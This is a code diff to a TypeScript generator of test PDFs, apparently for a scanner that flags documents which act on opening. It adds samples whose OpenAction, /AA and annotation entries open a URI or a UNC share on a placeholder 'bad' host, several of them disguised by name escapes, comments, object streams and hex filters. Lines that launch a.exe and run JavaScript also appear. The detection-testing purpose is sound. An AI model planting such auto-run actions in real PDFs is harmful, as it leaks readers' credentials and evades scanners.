@@ -110,6 +110,45 @@ const packed = (dictionary: string): Buffer => {
   return createPdf({ nesneler: [pdfStream(deflateSync(latin(body)), `/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode`)] });
 };
 
+/** Documents that reach out to another machine by themselves, or run a form of their own. */
+function automatic(): Buffer[] {
+  const uri = '<< /S /URI /URI (https://kotu.ornek/izle) >>';
+  const unc = '/F (\\\\\\\\kotu.ornek\\\\paylasim\\\\a.pdf)';
+  const inside = (entry: string, ...objects: string[]) => createPdf({ katalog: entry, nesneler: objects });
+  const ref = `${EK_NESNE} 0 R`;
+  const asc = (text: string) =>
+    pdfStream(Buffer.from(`${deflateSync(latin(text)).toString('hex')}>`), '/Type /ObjStm /N 1 /First 5 /Filter [/ASCIIHexDecode /FlateDecode]');
+  return [
+    inside(`/OpenAction ${ref}`, `<< /S /GoToR ${unc} /D [0 /Fit] >>`),
+    inside(`/OpenAction << /S /GoToR /D [0 /Fit] ${unc} >>`),
+    inside(`/AA << /WC << /S /GoToR ${unc} /D [0 /Fit] >> >>`),
+    inside(`/OpenAction ${ref}`, uri),
+    inside(`/OpenAction ${uri}`),
+    inside(`/OpenAction%x\n${uri}`),
+    inside(`/Open#41ction ${uri}`),
+    inside(`/OpenAction ${ref}`, `<< /Type /Action /S /GoTo /D [6 0 R /Fit] /Next ${EK_NESNE + 1} 0 R >>`, uri),
+    inside(`/OpenAction << /S /GoTo /D [6 0 R /Fit] /Next ${uri} >>`),
+    inside('/OpenAction 99 0 R'),
+    inside(`/AA << /WC ${uri} >>`),
+    inside(`/AA ${ref}`, `<< /DP ${uri} >>`),
+    createPdf({ sayfa: `/AA << /O ${uri} >>` }),
+    createPdf({ sayfa: `/AA%x\n<< /O ${uri} >>` }),
+    createPdf({ sayfa: `/Annots [${ref}]`, nesneler: [`<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] /AA << /PV ${uri} >> >>`] }),
+    createPdf({ sayfa: `/Annots [${ref}]`, nesneler: [`<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR ${unc} /D [0 /Fit] >> >>`] }),
+    createPdf({ nesneler: [pdfStream(Buffer.alloc(0), unc)] }),
+    createPdf({ nesneler: [pdfStream(Buffer.alloc(0), '/F << /Type /Filespec /UF <feff005c005c006b> >>')] }),
+    inside(`/AcroForm << /XFA [(template) ${ref}] >>`, '()'),
+    inside('/AcroForm << /XFA (<xdp:xdp/>) >>'),
+    inside('/AcroForm << /XFA <3c7864703e> >>'),
+    inside(`/AcroForm << /XFA%x\n${ref} >>`, '()'),
+    inside('/NeedsRendering true'),
+    packed(`<< /S /GoToR ${unc} >>`),
+    packed(`<< /Type /Page /AA << /O ${uri} >> >>`),
+    inside(`/OpenAction 20 0 R`, ...([pdfStream(deflateSync(latin(`20 0 ${uri}`)), '/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode')] as never[])),
+    createPdf({ nesneler: [asc(`20 0 ${uri}`)] }),
+  ];
+}
+
 /** Documents that do something when they are opened, clicked or printed. */
 function scripted(): Buffer[] {
   const js = '/S /JavaScript /JS (app.alert(1))';
@@ -140,6 +179,7 @@ function scripted(): Buffer[] {
     annotation('/Subtype /RichMedia /RichMediaContent << >>'),
     createPdf({ katalog: `/AcroForm << /XFA ${EK_NESNE} 0 R >>`, nesneler: [pdfStream(Buffer.from('<xdp:xdp/>'))] }),
     attached,
+    ...automatic(),
     packed(`<< ${js} >>`),
     packed('<< /S /Launch /F (a.exe) >>'),
     packed('<< /S /J#61vaScript /JS (x) >>'),
@@ -231,6 +271,18 @@ function truncated(): Buffer[] {
   ];
 }
 
+/** What opening may do: show a place, or offer to print. */
+const shown = (): Buffer[] =>
+  [
+    '/OpenAction [5 0 R /Fit]',
+    '/OpenAction << /S /GoTo /D [5 0 R /XYZ null null 0] >>',
+    '/OpenAction << /Type /Action /S /GoTo /D (bolum) >>',
+    '/OpenAction << /S /Named /N /Print >>',
+    '/OpenAction null',
+  ]
+    .map((katalog) => createPdf({ katalog }))
+    .concat(action('[5 0 R /Fit]'), action('<< /S /GoTo /D (bolum.1) >>'));
+
 const pagesOf = (n: number): Buffer => createPdf({ sayfalar: Array.from({ length: n }, (_, i) => `Sayfa ${i + 1}`) });
 
 /** Names that would lead elsewhere, say another kind, or do something to whoever reads them; the files themselves are clean. */
@@ -279,9 +331,9 @@ export function createCorpus(): CorpusFile[] {
     'temiz',
     [],
     [
-      ...Array.from({ length: 200 - bad.length - named.length - 4 }, (_, i) => clean(200 + i)),
+      ...Array.from({ length: 200 - bad.length - named.length - 3 - shown().length }, (_, i) => clean(200 + i)),
       pagesOf(2_000),
-      createPdf({ katalog: '/OpenAction [5 0 R /Fit]' }),
+      ...shown(),
       createPdf({ sayfalar: [''] }),
       Buffer.concat([clean(999), Buffer.from('\r\n\0\0\n')]),
     ],
